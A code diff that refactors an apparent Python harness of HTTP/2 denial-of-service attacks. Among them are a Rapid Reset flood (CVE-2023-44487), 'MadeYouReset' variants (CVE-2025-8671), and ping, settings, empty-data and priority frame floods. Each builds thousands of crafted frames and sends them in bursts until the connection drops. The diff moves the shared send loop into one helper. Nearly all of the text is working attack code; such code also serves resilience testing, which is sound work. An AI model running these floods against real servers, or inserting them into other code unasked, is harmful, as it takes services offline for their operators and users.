@@ -99,43 +99,55 @@ class Client:
         return other.counts.get("Headers", 0) > 0
 
 
-def rapid_reset(client):
-    # CVE-2023-44487
-    for first in range(1, 40_000, 200):
-        burst = b"".join(
-            client.headers(stream) + RstStreamFrame(stream, error_code=8).serialize()
-            for stream in range(first, first + 200, 2)
-        )
+def flood(client, bursts, rest=3):
+    """Writes one burst after another, hearing what comes back, until it is cut off; then waits to be."""
+    for burst in bursts:
         if not client.write(burst):
             return
         client.read(0.001)
-    client.read(3)
+    client.read(rest)
+
+
+def rapid_reset(client):
+    # CVE-2023-44487
+    flood(
+        client,
+        (
+            b"".join(
+                client.headers(stream) + RstStreamFrame(stream, error_code=8).serialize()
+                for stream in range(first, first + 200, 2)
+            )
+            for first in range(1, 40_000, 200)
+        ),
+    )
 
 
 def made_you_reset(client):
     # CVE-2025-8671: the server is made to reset, by a window update of nothing, after it has begun to work.
-    for first in range(1, 40_000, 100):
-        burst = b"".join(
-            client.headers(stream, HOLD, end=False)
-            + struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">II", stream, 0)
-            for stream in range(first, first + 100, 2)
-        )
-        if not client.write(burst):
-            return
-        client.read(0.001)
-    client.read(3)
+    flood(
+        client,
+        (
+            b"".join(
+                client.headers(stream, HOLD, end=False)
+                + struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">II", stream, 0)
+                for stream in range(first, first + 100, 2)
+            )
+            for first in range(1, 40_000, 100)
+        ),
+    )
 
 
 def made_you_reset_by_data(client):
     # As above, by bytes behind the end of a request.
-    for first in range(1, 40_000, 100):
-        burst = b"".join(
-            client.headers(stream) + DataFrame(stream, b"x").serialize() for stream in range(first, first + 100, 2)
-        )
-        if not client.write(burst):
-            return
-        client.read(0.001)
-    client.read(3)
+    flood(
+        client,
+        (
+            b"".join(
+                client.headers(stream) + DataFrame(stream, b"x").serialize() for stream in range(first, first + 100, 2)
+            )
+            for first in range(1, 40_000, 100)
+        ),
+    )
 
 
 def malformed_flood(client):
@@ -199,12 +211,7 @@ def cookie_crumbs(client):
 
 def ping_flood(client):
     client.write(client.headers(1, HOLD, end=False))
-    pings = PingFrame(0, opaque_data=b"01234567").serialize() * 500
-    for _ in range(400):
-        if not client.write(pings):
-            return
-        client.read(0.001)
-    client.read(3)
+    flood(client, [PingFrame(0, opaque_data=b"01234567").serialize() * 500] * 400)
 
 
 def unread_pings(client):
@@ -226,30 +233,16 @@ def unread_replies(client):
 
 def settings_flood(client):
     client.write(client.headers(1, HOLD, end=False))
-    settings = SettingsFrame(settings={4: 65535}).serialize() * 500
-    for _ in range(400):
-        if not client.write(settings):
-            return
-        client.read(0.001)
-    client.read(3)
+    flood(client, [SettingsFrame(settings={4: 65535}).serialize() * 500] * 400)
 
 
 def empty_data_flood(client):
     client.write(client.headers(1, HOLD, end=False))
-    for _ in range(1000):
-        if not client.write(DataFrame(1, b"").serialize() * 100):
-            return
-        client.read(0.001)
-    client.read(3)
+    flood(client, [DataFrame(1, b"").serialize() * 100] * 1000)
 
 
 def priority_flood(client):
-    frame = PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 500
-    for _ in range(400):
-        if not client.write(frame):
-            return
-        client.read(0.001)
-    client.read(1)
+    flood(client, [PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 500] * 400, rest=1)
 
 
 def window_stall(client):
